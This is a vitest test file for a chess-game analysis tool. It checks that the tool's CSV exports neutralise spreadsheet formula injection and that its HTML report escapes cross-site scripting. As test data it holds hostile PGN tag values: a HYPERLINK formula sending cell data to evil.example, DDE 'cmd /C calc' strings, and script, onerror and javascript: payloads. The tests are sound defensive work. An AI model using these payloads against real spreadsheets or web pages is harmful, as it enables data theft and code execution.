// Game text stays text: tag values that a spreadsheet would run as a formula (starting with = + - @, a tab
// or a CR) are written to every CSV with a leading ' — analyze's --tags columns and the puzzles' GameUrl and
// OpeningTags — while the cells we write ourselves are left as they are; and the --report page carries no
// game text, file name or statistics value that could run: outside its JSON data blocks (which hold no
// '<' at all) no element or attribute of the hostile text appears, in the example boards' captions and
// links either.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, CSV_TACTIC_COLUMNS, csvField, csvText } from '../../src/output/csv-text.js';
import { PUZZLE_CSV_COLUMNS, puzzleCsv } from '../../src/puzzles/puzzle-csv.js';
import { gameUrl, openingTags } from '../../src/puzzles/opening.js';
import type { Puzzle } from '../../src/puzzles/types.js';
import { runCli } from '../helpers/cli.js';
import { readCsv } from '../helpers/csv.js';
import { tempDir } from '../helpers/temp.js';

const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'];

/** Whether a spreadsheet would take the cell for a formula. */
const runs = (cell: string): boolean => cell.length > 0 && FORMULA_START.includes(cell[0]);

/** Tag values a spreadsheet would run, each in a tag of its own; and harmless ones that must stay as they are. */
const HOSTILE: Record<string, string> = {
  Event: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  Site: "+1+cmd|' /C calc'!A0",
  White: '-2+3',
  Black: "@SUM(1+1)*cmd|' /C calc'!A0",
  Annotator: '\t=1+1',
  Round: '-',
  Opening: '- Gambit: =1',
};
const HARMLESS: Record<string, string> = { TimeControl: '60+0', WhiteElo: '1500', Termination: "it's fine, 'quoted'" };

function game(tags: Record<string, string>, moves = '1. e4 e5 2. Bc4 Nc6 3. Qh5 Nf6 4. Qxf7# 1-0'): string {
  const pairs = Object.entries(tags).map(([k, v]) => `[${k} "${v.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"]`);
  return `${pairs.join('\n')}\n[Result "1-0"]\n\n${moves}\n\n`;
}

describe('csvText', () => {
  it.each(FORMULA_START)('puts a leading quote before a value starting with %j', (c) => {
    expect(csvText(`${c}1+1`)).toBe(csvField(`'${c}1+1`));
    expect(runs(readCsv(csvText(`${c}1+1`) + '\r\n')[0][0])).toBe(false);
  });

  it('leaves other values as csvField writes them, quoting included', () => {
    for (const s of ['', 'Carlsen, Magnus', "'=already quoted", ' =1', 'a=1', 'x-y', '2000', '1/2-1/2', 'say "hi"'])
      expect(csvText(s)).toBe(csvField(s));
    expect(csvText('=1,2')).toBe('"\'=1,2"');
    expect(csvText('-"x"')).toBe('"\'-""x"""');
  });
});

describe('analyze -f csv --tags', () => {
  it('neutralises every tag value a spreadsheet would run, and only those', async () => {
    const dir = tempDir('hostile-csv');
    const input = join(dir, 'hostile.pgn');
    writeFileSync(input, game({ ...HOSTILE, ...HARMLESS }) + game({ Event: 'plain', White: 'Kasparov, G' }, '1. d4 d5 2. c4 c6 1-0'));
    const asked = [...Object.keys(HOSTILE), ...Object.keys(HARMLESS)];
    const r = await runCli([input, '-q', '--all-positions', '-f', 'csv', '--tags', asked.join(',')]);
    expect(r.code, r.stderr).toBe(0);
    const [header, ...rows] = readCsv(r.stdout);
    // the verdict's columns (verdicts are on by default) come before the tags'
    const ours = [...CSV_COLUMNS.split(','), ...CSV_TACTIC_COLUMNS.split(',')];
    expect(header).toEqual([...ours, ...asked]);
    const fixed = ours.length;
    const first = rows.filter((row) => row[0] === '1');
    expect(first.length).toBeGreaterThan(8);
    for (const row of first) {
      expect(row.slice(fixed)).toEqual(
        asked.map((t) => {
          const v = HOSTILE[t] ?? HARMLESS[t];
          return runs(v) ? `'${v}` : v;
        }),
      );
    }
    const second = asked.map((t) => ({ Event: 'plain', White: 'Kasparov, G' })[t] ?? '');
    for (const row of rows.filter((row) => row[0] === '2')) expect(row.slice(fixed)).toEqual(second);
    // no cell of the file, ours or the game's, would run; ours (FEN, SAN, UCI, motif columns) are unchanged
    for (const row of rows) for (const cell of row) expect(runs(cell), cell).toBe(false);
    const plain = await runCli([input, '-q', '--all-positions', '-f', 'csv']);
    expect(readCsv(plain.stdout).slice(1)).toEqual(rows.map((row) => row.slice(0, fixed)));
  });
});

describe('puzzle CSV', () => {
  it('neutralises GameUrl and OpeningTags, which come from the game, and nothing of ours', () => {
    const base: Puzzle = {
      id: 'g1p20',
      game: 1,
      ply: 20,
      fenBefore: 'r1bqkb1r/pppp1ppp/2n2n2/4p2Q/2B1P3/8/PPPP1PPP/RNB1K1NR w KQkq - 4 4',
      moves: ['h5f7'],
      mateIn: 1,
      cp: 9999,
      rating: 900,
      ratingDeviation: 400,
      themes: ['mate', 'mateIn1', 'short'],
      gameUrl: '',
      openingTags: '',
      verified: true,
      chess960: false,
    };
    const opening = openingTags(HOSTILE.Opening);
    expect(opening.startsWith('-')).toBe(true); // the Opening key keeps '-': game text that would run
    const hostile: Puzzle = { ...base, gameUrl: gameUrl('https://lichess.org/abcdefgh', 20), openingTags: opening };
    const rows = readCsv(puzzleCsv.header() + puzzleCsv.puzzle(hostile) + puzzleCsv.puzzle({ ...base, openingTags: '@x', gameUrl: '=y' }));
    expect(rows[0]).toEqual(PUZZLE_CSV_COLUMNS.split(','));
    expect(rows[1]).toEqual([
      base.id,
      base.fenBefore,
      'h5f7',
      '900',
      '400',
      '',
      '',
      'mate mateIn1 short',
      'https://lichess.org/abcdefgh/black#20',
      `'${opening}`,
    ]);
    expect(rows[2].slice(8)).toEqual(["'=y", "'@x"]);
    for (const row of rows) for (const cell of row) expect(runs(cell), cell).toBe(false);
  });
});

describe('the --report page', () => {
  it('carries no game text, file name or run field that could run', async () => {
    const dir = tempDir('hostile-report');
    const script = '<script>alert(1)</script>';
    const attr = '"onload=alert(2) x="';
    const img = '<img src=x onerror=alert(3)>';
    const input = join(dir, `${img}.pgn`);
    // the example boards show the players and link a Site that is a web address: one that would close its attribute is not linked
    const url = 'https://lichess.org/x"><img src=y onerror=alert(5)>';
    writeFileSync(
      input,
      game({ Event: script, White: attr, Black: img, Site: 'javascript:alert(4)', Opening: script, ECO: script, TimeControl: attr }) +
        game(
          { Site: url, White: `</figcaption>${script}`, Date: img },
          '1. e4 e5 2. Nf3 Nc6 3. Bc4 d6 4. Nc3 Bg4 5. Nxe5 Bxd1 6. Bxf7+ Ke7 7. Nd5# 1-0',
        ),
    );
    const report = join(dir, 'report.html');
    const r = await runCli([input, '-f', 'none', '-q', '--report', report, '--stats', join(dir, 'stats.json')]);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'stats.json'), 'utf8'))).toMatchObject({ games: 2, rejected: 0 });
    checkPage(readFileSync(report, 'utf8'));
    // about a player named by hostile text: their name in the title, the header and the boards of their misses
    const mine = join(dir, 'player.html');
    const p = await runCli([input, '-f', 'none', '-q', '--player', `</figcaption>${script}`, '--player', img, '--report', mine]);
    expect(p.code, p.stderr).toBe(0);
    const html = readFileSync(mine, 'utf8');
    checkPage(html);
    expect(html).toContain('<h1>pgn-xray statistics: &lt;/figcaption&gt;&lt;script&gt;alert(1)&lt;/script&gt;, &lt;img');
    expect(html).toContain('<section id="misses">');
  });
});

/** A report page of the hostile games: nothing of their text can run, their boards drawn, no link made. */
function checkPage(html: string): void {
  // the JSON data blocks: no '<' inside, so nothing in them can close their element
  const data = [...html.matchAll(/<script type="application\/(?:vnd\.vegalite\+)?json"[^>]*>([^]*?)<\/script>/g)];
  expect(data.length).toBeGreaterThan(5);
  for (const [, body] of data) expect(body).not.toContain('<');
  // the rest of the page: no element or attribute of the hostile text, the file name shown escaped
  const page = html.replace(/<script type="application\/(?:vnd\.vegalite\+)?json"[^>]*>[^]*?<\/script>/g, '');
  expect(page).not.toMatch(/<script|<img|"onload|javascript:/i);
  expect(page.match(/<figure class="board"/g)?.length).toBeGreaterThan(5);
  expect(page).not.toContain('<a class="game"'); // neither Site is a web address that can be linked
  expect(page).toContain('&lt;/figcaption&gt;&lt;script&gt;alert(1)&lt;/script&gt; \u2013 ?, &lt;img'); // a caption names the players, escaped
  expect(page).toContain('&lt;img src=x onerror=alert(3)&gt;.pgn');
}
